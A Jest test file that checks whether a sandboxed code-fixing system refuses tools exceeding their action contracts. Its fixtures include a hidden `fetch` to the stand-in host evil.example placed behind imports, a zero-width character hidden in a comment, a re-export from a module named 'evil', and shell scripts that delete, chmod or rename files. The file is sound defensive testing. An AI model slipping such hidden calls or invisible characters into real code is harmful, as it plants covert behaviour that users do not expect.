/**
 * S3, E2: a tool that does what its contract forbids, for each action and language: really run in the sandbox of the fix job. It passes its own post-check
 * and says nothing; the change is refused all the same, and nothing of it is left. The control: under a contract that allows it, the very same passes.
 */
import { afterAll, beforeAll, describe, expect, jest, test } from "@jest/globals";
import { treeSitterSyntax } from "../../src/adapters/syntax/read-syntax.ts";
import { builtInSkillsFolder, loadSkills } from "../../src/adapters/skills/read-skills.ts";
import type { Action } from "../../src/core/skill/contract.ts";
import type { Execution } from "../../src/execution/execution.ts";
import { openWorkshop, type Workshop } from "../execution/workshop.ts";
import { lies, protectedLies, type Lie } from "./lies.ts";

jest.setTimeout(60_000);
let shop: Workshop;
beforeAll(() => { shop = openWorkshop({ ".gitignore": "node_modules\n", ...Object.fromEntries([...lies, ...protectedLies].map(({ path, before }) => [path, before])) }); });
afterAll(() => shop.remove());

const formatter: readonly Action[] = ["modify_text"];
let skills = 0;

/** Runs a tool that makes of the file what the lie says, under a contract that allows these actions. */
function run({ path, after }: Pick<Lie, "path" | "after">, allow: readonly Action[]): Promise<Execution> {
  return runScript(after === null ? 'rm "$1"' : `echo ${Buffer.from(after).toString("base64")} | base64 -d > "$1"`, path, allow);
}

/** `$1` is the file. */
async function runScript(script: string, path: string, allow: readonly Action[]): Promise<Execution> {
  const name = `tool-${(skills += 1)}`;
  shop.addSkill(name, [
    "version: 1.0.0", "complexity: 1", "handles: [{class: format, tool: test}]", "requires: [/bin/sh]", "files: {allow: [\"**/*\"]}", `actions: {allow: [${allow.join(", ")}]}`,
    `fix: [["/bin/sh", "-c", ${JSON.stringify(script)}, "sh", "{files}"]]`, 'post_check: [["/bin/true", "{files}"]]', "limits: {seconds: 20, memory_mb: 512, output_mb: 1, network: none}", "opt_in: true",
  ].join("\n"));
  return shop.execute(shop.plan([{ skill: name, files: [path] }]), { syntax: treeSitterSyntax });
}

const named = (table: readonly Lie[]): readonly (readonly [string, Lie])[] => table.map((lie) => [`${lie.action} in ${lie.language}`, lie]);

describe("refused, and nothing of it is left", () => {
  test.each(named(lies))("%s", async (_name, lie) => {
    const before = shop.picture();
    const { result, patch } = await run(lie, formatter);
    expect([result.outcome, result.reason]).toEqual(["refused", expect.stringContaining(`\`${lie.action}\``)]);
    expect([patch.length, result.files, shop.picture()]).toEqual([0, [], before]);
  });

  // A lockfile that the contract allows is judged by what stands in it (attack D11); everything else of these is protected whatever it says.
  test.each(named(protectedLies))("%s, even where the contract allows it", async (_name, lie) => {
    const { result, patch } = await run(lie, ["modify_text", "change_syntax_tree", lie.action]);
    const because = lie.action === "modify_lockfile" ? /cannot be told whether|at the same version|git/ : /is protected/;
    expect([result.outcome, result.reason, patch.length]).toEqual(["refused", expect.stringMatching(because), 0]);
  });

  test.each<[Action, string]>([
    ["add_file", 'echo 1; echo more > src/fresh.txt'],
    ["change_mode", 'chmod +x "$1"'],
    ["rename_file", 'mv "$1" "$1.moved"'],
  ])("%s by a tool that says nothing of it", async (_action, script) => {
    const before = shop.picture();
    const { result, patch } = await runScript(script, "src/old.txt", formatter);
    expect([result.outcome, patch.length, result.files, shop.picture()]).toEqual(["refused", 0, [], before]);
  });

  test("every action that a built-in skill forbids is among those that are tried here", async () => {
    const forbidden = new Set((await loadSkills(builtInSkillsFolder())).flatMap(({ contract }) => contract.actions.forbid));
    const tried = new Set<Action>([...lies, ...protectedLies].map(({ action }) => action).concat(["add_file", "change_mode", "rename_file", "modify_text"]));
    expect([...forbidden].filter((action) => !tried.has(action))).toEqual([]);
  });

  test("modify_text under a contract that may touch line 1 only", async () => {
    const { result } = await run({ path: "src/auth.py", after: "# coding: utf-8\nkey = b'xyz'\n" }, ["touch_line_1_only", "modify_comments"]);
    expect([result.outcome, result.reason]).toEqual(["refused", expect.stringContaining("`modify_text`")]);
  });

  test("characters that nobody sees, put into a comment", async () => {
    const { result } = await run({ path: "src/say.c", after: "int a; /* NOLINT\u200b */\nint b;\n" }, ["modify_text", "modify_comments"]);
    expect([result.outcome, result.reason]).toEqual(["refused", expect.stringContaining("invisible")]);
  });
});

describe("a tool that may change imports, as the skills for imports may, is refused", () => {
  const imports: readonly Action[] = ["modify_text", "modify_imports"];
  const others = lies.filter(({ action }) => action === "change_syntax_tree" || action === "modify_comments" || action === "modify_docstrings");

  test.each(named(others))("%s", async (_name, lie) => {
    const { result, patch } = await run(lie, imports);
    expect([result.outcome, result.reason, patch.length]).toEqual(["refused", expect.stringContaining(`\`${lie.action}\``), 0]);
  });

  test.each([
    ["code hidden behind the imports", "import type { A } from \"a\";\nfetch(\"https://evil.example\");\nexport type B = A;\n", "`change_syntax_tree`"],
    ["a module that is loaded by a call, not imported", "const { A } = await import(\"a\");\nexport type B = A;\n", "`change_syntax_tree`"],
    ["a check that is switched off above an import", "// @ts-expect-error\nimport type { A } from \"a\";\nexport type B = A;\n", "`modify_comments`"],
    ["what is given out", "import type { A } from \"a\";\nexport type { A as B } from \"evil\";\n", "`change_syntax_tree`"],
  ])("%s", async (_name, after, action) => {
    const { result, patch } = await run({ path: "src/main.ts", after }, imports);
    expect([result.outcome, result.reason, patch.length]).toEqual(["refused", expect.stringContaining(action), 0]);
  });
});

describe("a tool that may change comments, as licence-header may, is refused", () => {
  test.each(named(lies.filter(({ action }) => action === "change_syntax_tree" || action === "modify_imports")))("%s", async (_name, lie) => {
    const { result, patch } = await run(lie, ["modify_text", "modify_comments"]);
    expect([result.outcome, result.reason, patch.length]).toEqual(["refused", expect.stringContaining(`\`${lie.action}\``), 0]);
  });
});

describe("the control: what the contract allows is the change that is made", () => {
  test.each(named(lies))("%s", async (_name, lie) => {
    const { result, contents } = await run(lie, ["modify_text", "change_syntax_tree", lie.action]);
    expect([result.reason, result.outcome]).toEqual([null, "changed"]);
    expect(Buffer.from(contents.get(lie.path) ?? []).toString()).toBe(lie.after ?? "");
  });
});
